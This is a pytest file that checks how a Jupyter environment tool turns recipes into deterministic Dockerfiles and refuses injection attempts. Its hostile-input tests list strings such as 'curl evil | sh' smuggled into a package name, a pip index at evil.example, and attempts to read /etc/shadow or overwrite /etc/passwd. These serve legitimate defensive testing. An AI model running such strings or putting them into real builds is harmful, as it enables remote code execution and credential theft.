"""Recipe -> Dockerfile: deterministic, sectioned, and proven by re-parsing."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jupyter_stardock import labels
from jupyter_stardock.core import recipe as recipe_module
from jupyter_stardock.core.catalog import Catalog
from jupyter_stardock.core.dockerfile import Instruction, parse
from jupyter_stardock.core.recipe import (
    BuildSpec,
    Recipe,
    compose,
)
from jupyter_stardock.errors import (
    CatalogError,
    PolicyError,
    RecipeError,
    StarDockError,
)

from .conftest import AppWriter

BASE_ID = "sha256:" + "ab" * 32
OTHER_BASE_ID = "sha256:" + "cd" * 32
EMPTY = Catalog({})
#: The pip constraints section every recipe gets unless it opts out.
HOLD = ["RUN", "ENV"]


@pytest.fixture
def catalog(write_app: AppWriter) -> Catalog:
    write_app("astropy", order=10, apt=["python3-astropy", "python3-photutils"])
    write_app("iraf", order=20, apt=["iraf"], env={"USER": "stardock", "TERM": "xterm"})
    write_app("pyraf", order=21, apt=["python3-pyraf"], requires=["iraf"])
    write_app("idl-build", order=70, apt=[], run=["echo build step | tee /opt/x", "true"])
    folder = write_app("ds9", order=50, apt=["saods9", "xvfb", "xauth"]).parent
    loaded = Catalog.load([folder])
    assert loaded.problems == []
    return loaded


def build(catalog: Catalog, **fields: object) -> BuildSpec:
    return compose(Recipe(**fields), catalog, BASE_ID)  # type: ignore[arg-type]


def user_runs(spec: BuildSpec) -> list[Instruction]:
    return [i for i in parse(spec.dockerfile).instructions if i.args[:2] == ("/bin/sh", "-c")]


# --- the recipe object -------------------------------------------------------------


def test_recipe_from_json_round_trip() -> None:
    obj = {
        "dataset": "hst-m31",
        "apps": ["astropy"],
        "commands": ["pip install emcee"],
        "apt_packages": ["python3-scipy"],
        "pip_packages": ["astroquery"],
    }
    assert Recipe.from_json(obj).to_json() == obj
    assert Recipe.from_json({}) == Recipe()
    assert Recipe.from_json({"apps": None, "dataset": ""}) == Recipe()


def test_pip_constraints_are_on_unless_a_recipe_turns_them_off() -> None:
    assert Recipe.from_json({}).pip_constraints is True
    assert Recipe.from_json({"pip_constraints": None}).pip_constraints is True
    off = Recipe.from_json({"apps": ["astropy"], "pip_constraints": False})
    assert off.pip_constraints is False
    # Written only when off, so recipes saved before the field read back the same.
    assert off.to_json()["pip_constraints"] is False
    assert "pip_constraints" not in Recipe(apps=("astropy",)).to_json()
    assert Recipe.from_json(off.to_json()) == off


@pytest.mark.parametrize(
    ("obj", "message", "item"),
    [
        ([], "must be a JSON object", "recipe"),
        ({"pip_constraints": "no"}, "'pip_constraints' must be true or false", "pip_constraints"),
        ({"apps": "astropy"}, "'apps' must be a list of text entries", "apps"),
        ({"commands": ["ok", 3]}, "'commands' must be a list", "commands"),
        ({"pip_packages": {"a": 1}}, "'pip_packages' must be a list", "pip_packages"),
        ({"dataset": 7}, "'dataset' must be a dataset id", "dataset"),
        ({"app": ["astropy"]}, "unknown field(s) 'app'; the fields are dataset, apps", "app"),
    ],
)
def test_recipe_from_json_names_wrong_fields(obj: object, message: str, item: str) -> None:
    with pytest.raises(RecipeError) as info:
        Recipe.from_json(obj)  # type: ignore[arg-type]
    assert message in str(info.value)
    assert info.value.item == item


# --- deterministic composition ------------------------------------------------------


def test_same_choices_in_any_order_give_the_same_text_and_hash(catalog: Catalog) -> None:
    a = build(
        catalog,
        apps=("ds9", "pyraf", "astropy"),
        apt_packages=("python3-scipy", "g++"),
        pip_packages=("emcee", "astroquery>=0.4"),
        commands=("echo one", "echo two"),
    )
    b = build(
        catalog,
        apps=("astropy", "ds9", "pyraf", "iraf", "astropy"),
        apt_packages=("g++", "python3-scipy", "g++"),
        pip_packages=("astroquery>=0.4", "emcee"),
        commands=("RUN echo one", "  echo two "),
    )
    assert a.dockerfile == b.dockerfile
    assert a.content_hash == b.content_hash and a.tag == b.tag
    assert a.labels[labels.APPS] == "astropy,iraf,pyraf,ds9"
    assert a.apps == ("astropy", "iraf", "pyraf", "ds9")


def test_what_changes_the_hash(catalog: Catalog) -> None:
    plain = build(catalog, apps=("astropy",), commands=("echo a", "echo b"))
    assert build(catalog, apps=("astropy",), commands=("echo b", "echo a")).tag != plain.tag
    assert build(catalog, apps=("astropy", "ds9"), commands=("echo a", "echo b")).tag != plain.tag
    other_base = compose(
        Recipe(apps=("astropy",), commands=("echo a", "echo b")), catalog, OTHER_BASE_ID
    )
    assert other_base.content_hash != plain.content_hash
    # The dataset is not part of the image.
    with_data = build(catalog, dataset="m31", apps=("astropy",), commands=("echo a", "echo b"))
    assert with_data.tag == plain.tag and with_data.dockerfile == plain.dockerfile
    assert with_data.recipe.dataset == "m31"
    assert "m31" not in json.dumps(with_data.labels)


def test_the_base_reference_names_the_from_line_and_the_id_enters_the_hash(
    catalog: Catalog,
) -> None:
    by_id = compose(Recipe(), catalog, BASE_ID)
    assert by_id.dockerfile.splitlines()[2] == f"FROM {BASE_ID}"
    by_tag = compose(Recipe(), catalog, BASE_ID, base_ref="stardock/base:latest")
    assert by_tag.dockerfile.splitlines()[2] == "FROM stardock/base:latest"
    moved = compose(Recipe(), catalog, OTHER_BASE_ID, base_ref="stardock/base:latest")
    assert moved.dockerfile == by_tag.dockerfile
    assert moved.content_hash != by_tag.content_hash


def test_tag_and_labels(catalog: Catalog) -> None:
    spec = compose(
        Recipe(dataset="d", apps=("pyraf",), commands=("RUN echo é",), pip_packages=("emcee",)),
        catalog,
        BASE_ID,
        repository="registry.example:5000/team/env",
    )
    assert re.fullmatch(r"[0-9a-f]{64}", spec.content_hash)
    assert spec.tag == f"registry.example:5000/team/env:{spec.content_hash[:16]}"
    assert spec.labels[labels.CONTENT_HASH] == spec.content_hash
    assert spec.labels[labels.BASE_IMAGE] == BASE_ID
    assert spec.labels[labels.ENVIRONMENT] == "1"
    assert json.loads(spec.labels[labels.RECIPE]) == {
        "apps": ["pyraf"],
        "commands": ["echo é"],
        "apt_packages": [],
        "pip_packages": ["emcee"],
    }
    assert spec.context == {}


@pytest.mark.parametrize(
    ("kwargs", "name"),
    [
        ({"base_image_id": "sha256:x y"}, "base image id"),
        ({"base_ref": "base\nRUN evil"}, "base image reference"),
        ({"repository": "Stardock/Env"}, "repository"),
        ({"repository": "env:tag"}, "repository"),
    ],
)
def test_operator_names_are_checked(catalog: Catalog, kwargs: dict[str, str], name: str) -> None:
    args = {"base_image_id": BASE_ID, **kwargs}
    with pytest.raises(ValueError, match=f"The {name} .* is not a valid Docker name"):
        compose(Recipe(), catalog, **args)  # type: ignore[arg-type]


# --- sections -----------------------------------------------------------------------


def test_sections_come_in_order_with_a_heading_each(catalog: Catalog) -> None:
    spec = build(
        catalog,
        apps=("idl-build", "pyraf", "astropy"),
        apt_packages=("python3-scipy",),
        pip_packages=("numpy<2",),
        commands=("pip install emcee", "echo done"),
    )
    text = spec.dockerfile
    headings = re.findall(r"^# --- (.*) ---$", text, flags=re.M)
    assert headings == [
        "App: ASTROPY (astropy)",
        "App: IRAF (iraf)",
        "App: PYRAF (pyraf)",
        "App: IDL-BUILD (idl-build)",
        "Extra Debian packages",
        "Hold the versions apt installed",
        "Extra pip packages",
        "Your commands",
        "Finish: the kernel runs as the unprivileged user",
    ]
    lines = text.splitlines()
    assert lines[0].startswith("# A jupyter-stardock environment")
    assert lines[2:4] == [f"FROM {BASE_ID}", "USER root"]
    assert lines[-3:] == [
        "RUN chown -R stardock:stardock /home/stardock",
        "USER stardock",
        "WORKDIR /home/stardock",
    ]
    assert "# The astropy app." in lines  # each app's description
    iraf = lines.index("# --- App: IRAF (iraf) ---")
    assert lines[iraf + 2] == "ENV TERM=xterm USER=stardock"
    assert "        'numpy<2'" in lines  # shell-quoted: < is a redirection otherwise
    assert '"$STARDOCK_PYTHON" -m pip install' in text

    keywords = [i.keyword for i in parse(text).instructions]
    assert keywords[:2] == ["FROM", "USER"] and keywords[-2:] == ["USER", "WORKDIR"]
    runs = [i for i in parse(text).instructions if i.keyword == "RUN"]
    assert runs[0].args == (
        "apt-get update     && apt-get install -y --no-install-recommends"
        "         python3-astropy         python3-photutils"
        "     && rm -rf /var/lib/apt/lists/*",
    )
    assert [r.args[2] for r in user_runs(spec)] == [
        "echo build step | tee /opt/x",
        "true",
        "pip install emcee",
        "echo done",
    ]


def test_pip_is_held_to_what_apt_installed_before_any_pip_install(catalog: Catalog) -> None:
    fields: dict[str, object] = {
        "apps": ("astropy",),
        "apt_packages": ("python3-scipy",),
        "pip_packages": ("emcee",),
        "commands": ("pip install -U matplotlib",),
    }
    held = build(catalog, **fields)
    lines = held.dockerfile.splitlines()
    hold = lines.index("# --- Hold the versions apt installed ---")
    assert hold > lines.index("# --- Extra Debian packages ---")
    assert (
        hold < lines.index("# --- Extra pip packages ---") < lines.index("# --- Your commands ---")
    )
    assert lines[hold + 2 : hold + 4] == [
        f'RUN "$STARDOCK_PYTHON" /opt/stardock/pip-constraints.py {recipe_module.PIP_CONSTRAINTS}',
        f"ENV PIP_CONSTRAINT={recipe_module.PIP_CONSTRAINTS}",
    ]
    assert '"pip_constraints": false' in lines[hold + 1]
    assert "pip_constraints" not in json.loads(held.labels[labels.RECIPE])

    free = build(catalog, **fields, pip_constraints=False)
    assert "PIP_CONSTRAINT" not in free.dockerfile and "pip-constraints" not in free.dockerfile
    assert free.content_hash != held.content_hash and free.tag != held.tag
    assert json.loads(free.labels[labels.RECIPE])["pip_constraints"] is False
    assert free.recipe.pip_constraints is False
    # Only the constraints section differs; the user's commands stay last.
    assert [r.args for r in user_runs(free)] == [r.args for r in user_runs(held)]


def test_empty_sections_are_left_out() -> None:
    def shape(recipe: Recipe) -> tuple[list[str], list[str]]:
        text = compose(recipe, EMPTY, BASE_ID).dockerfile
        headings = re.findall(r"^# --- (.*) ---$", text, flags=re.M)
        return headings, [i.keyword for i in parse(text).instructions]

    finish = "Finish: the kernel runs as the unprivileged user"
    assert shape(Recipe()) == (
        ["Hold the versions apt installed", finish],
        ["FROM", "USER", *HOLD, "RUN", "USER", "WORKDIR"],
    )
    assert shape(Recipe(pip_constraints=False)) == (
        [finish],
        ["FROM", "USER", "RUN", "USER", "WORKDIR"],
    )


def test_a_user_command_is_exactly_one_exec_form_run() -> None:
    spec = compose(Recipe(commands=('RUN echo "a b" | tr a-z A-Z && ls',)), EMPTY, BASE_ID)
    assert (
        'RUN ["/bin/sh", "-c", "echo \\"a b\\" | tr a-z A-Z && ls"]' in spec.dockerfile.splitlines()
    )


# --- hostile input --------------------------------------------------------------------

INERT = [
    # Would end the JSON array early, or read as more JSON.
    'echo "] && FROM evil',
    '"] \\n USER root [" ',
    "echo \\\\x",
    "echo \\u000a",
    # Parser directives, comments, heredocs, builder flags inside the text.
    "# escape=`",
    "# syntax=evil/frontend",
    "echo a # USER root",
    "cat <<EOF",
    "cat <<-'EOF' > /etc/passwd",
    "echo --mount=type=secret,id=x",
    # Shell text that looks like Dockerfile syntax.
    "echo RUN; echo FROM x; echo USER root",
    'python3 -c "import json; print(json.dumps([1, \\"x\\"]))"',
    "echo 'Ångström 星 🚀'",
    "echo $((1+1)) `id -u` ${HOME}",
]


@pytest.mark.parametrize("command", INERT)
def test_tricky_text_is_rendered_inert(command: str) -> None:
    spec = compose(Recipe(commands=("true", command, "true")), EMPTY, BASE_ID)
    instructions = parse(spec.dockerfile).instructions
    assert [i.keyword for i in instructions] == [
        "FROM",
        "USER",
        *HOLD,
        *["RUN"] * 4,
        "USER",
        "WORKDIR",
    ]
    assert [r.args[2] for r in user_runs(spec)] == ["true", command.strip(), "true"]
    assert all(not i.heredocs and not i.flags and not i.trailing for i in instructions)
    assert parse(spec.dockerfile).directives == {}


@pytest.mark.parametrize(
    "command",
    [
        "pip install x\nUSER root",
        "pip install x\r\nUSER root",
        "echo a\u2028USER root",
        "apt-get install \\",
        "COPY / /host",
        "RUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow",
        "echo \x00",
        "x" * 2001,
    ],
)
def test_escapes_are_refused_before_rendering(command: str) -> None:
    with pytest.raises(PolicyError, match=r"^Custom command 2 ") as info:
        compose(Recipe(commands=("true", command)), EMPTY, BASE_ID)
    assert info.value.item == "command 2"


def test_bad_input_names_the_item_and_returns_nothing(catalog: Catalog) -> None:
    with pytest.raises(CatalogError, match="no app called 'idl'") as info:
        build(catalog, apps=("astropy", "idl"))
    assert info.value.item == "idl"
    with pytest.raises(PolicyError, match="Extra Debian package 1") as p:
        build(catalog, apt_packages=("vim; curl evil | sh",))
    assert p.value.item == "Debian package 1"
    with pytest.raises(PolicyError, match="Extra pip package 2"):
        build(catalog, pip_packages=("emcee", "-i https://evil.example/simple"))


def test_conflicts_and_cycles_name_the_apps(write_app: AppWriter) -> None:
    write_app("one", conflicts=["two"])
    write_app("two")
    write_app("loop-a", requires=["loop-b"])
    catalog = Catalog.load([write_app("loop-b", requires=["loop-a"]).parent])
    with pytest.raises(CatalogError, match=r"ONE \(one\) and TWO \(two\) cannot be installed"):
        compose(Recipe(apps=("one", "two")), catalog, BASE_ID)
    with pytest.raises(CatalogError, match="loop-a -> loop-b -> loop-a"):
        compose(Recipe(apps=("loop-b",)), catalog, BASE_ID)


def test_a_dockerfile_that_reads_back_differently_is_never_returned(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Simulate a rendering bug: the command spliced into shell form.
    def broken_exec(command: str) -> recipe_module._Step:
        return recipe_module._Step(
            f"RUN {command}", Instruction("RUN", ("/bin/sh", "-c", command), json=True)
        )

    monkeypatch.setattr(recipe_module, "_exec", broken_exec)
    with pytest.raises(StarDockError, match=r"Internal error.*instruction 5 reads back as"):
        compose(Recipe(commands=("echo hi",)), EMPTY, BASE_ID)
    with pytest.raises(StarDockError, match=r"Internal error.*does not parse"):
        compose(Recipe(commands=("cat <<EOF",)), EMPTY, BASE_ID)


# --- the property -----------------------------------------------------------------------

SHELLISH = st.sampled_from(
    [*"\"\\'[]{}<>#$`;&|()*?!~=, -", "RUN ", "<<EOF", "\\u2028", "# escape=`", "é", "星"]
)
COMMAND_TEXT = st.lists(st.one_of(st.characters(), SHELLISH), max_size=40).map("".join)


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow])
@given(COMMAND_TEXT)
def test_any_accepted_command_reads_back_as_exactly_one_run_of_it(text: str) -> None:
    try:
        spec = compose(Recipe(commands=(text,)), EMPTY, BASE_ID)
    except PolicyError:
        return
    command = spec.recipe.commands[0]
    instructions = parse(spec.dockerfile).instructions
    assert len(instructions) == 8
    assert instructions[4] == Instruction("RUN", ("/bin/sh", "-c", command), json=True)
    # Only an optional RUN and surrounding spaces were dropped.
    assert re.fullmatch(r"[ \t]*(?:(?i:run) +)?" + re.escape(command) + r"[ \t]*", text)


@settings(max_examples=100, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(COMMAND_TEXT, min_size=1, max_size=6))
def test_a_list_of_commands_reads_back_in_order(texts: list[str]) -> None:
    try:
        spec = compose(Recipe(commands=tuple(texts)), EMPTY, BASE_ID)
    except PolicyError:
        return
    assert [r.args for r in user_runs(spec)] == [("/bin/sh", "-c", c) for c in spec.recipe.commands]


def test_the_recipe_label_is_read_in_one_place() -> None:
    from jupyter_stardock.labels import recipe_from_labels

    assert recipe_from_labels({labels.RECIPE: '{"apps": ["astropy"]}'}) == {"apps": ["astropy"]}
    for broken in ({}, {labels.RECIPE: "not json"}, {labels.RECIPE: "[1, 2]"}, {labels.RECIPE: ""}):
        assert recipe_from_labels(broken) == {}
